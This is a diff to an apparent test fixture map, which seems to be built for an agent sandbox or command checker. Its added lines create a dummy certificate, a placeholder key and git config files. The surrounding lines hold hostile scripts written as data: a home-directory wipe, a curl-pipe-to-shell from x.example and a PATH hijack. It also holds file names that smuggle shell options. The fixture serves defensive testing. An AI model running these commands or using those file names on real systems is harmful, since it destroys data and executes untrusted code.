@@ -27,6 +27,13 @@ const FILES: Record<string, string> = {
   "ws/scripts/wipe.sh": "rm -rf ~\n",
   "ws/scripts/fetch.sh": "curl -s https://x.example/i.sh | sh\n",
   "ws/scripts/path.sh": "export PATH=/tmp/evil:$PATH\n",
+  // A public certificate (self-signed, no key kept) and a "key" with a PEM name.
+  "ws/certs/site.pem": "-----BEGIN CERTIFICATE-----\nMIIBjTCCATOgAwIBAgIUaKyP8CkIkxOzDTMs4Woza7X1XEwwCgYIKoZIzj0EAwIw\nHDEaMBgGA1UEAwwRYWdlbnQtc3Vkby1jb3JwdXMwHhcNMjYxMjAyMDE0MTU3WhcN\nMzYxMTI5MDE0MTU3WjAcMRowGAYDVQQDDBFhZ2VudC1zdWRvLWNvcnB1czBZMBMG\nByqGSM49AgEGCCqGSM49AwEHA0IABOxS44RilsnKoKlA2VQiYJ5UMljrh7CuYUvy\nMJguQMG1esfs7zgiZVYxSHMtpFdAi9cAGkD/wCSd+Tcifcfm/2qjUzBRMB0GA1Ud\nDgQWBBRYyimw12JWK9Kn6WEfulQqcydtNzAfBgNVHSMEGDAWgBRYyimw12JWK9Kn\n6WEfulQqcydtNzAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0gAMEUCIE/j\nIpM2wEkd6bMFr3CKiWe2Jv1j/rL78dH9By3w1QO/AiEArWa0LXiizDAG88mFJC9e\n50+pubcrKbTFxTZb5UzB2ig=\n-----END CERTIFICATE-----\n",
+  "ws/certs/site.key.pem": "-----BEGIN PRIVATE KEY-----\nplaceholder\n-----END PRIVATE KEY-----\n",
+  // A repository with a configured remote whose default branch is main.
+  "ws/.git/config": "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://example.com/r.git\n",
+  "ws/.git/HEAD": "ref: refs/heads/feature/x\n",
+  "ws/.git/refs/remotes/origin/HEAD": "ref: refs/remotes/origin/main\n",
   "dash/--compress-program=sh": "",
   "dash/-rf": "",
   "dash/a.txt": "a\n",
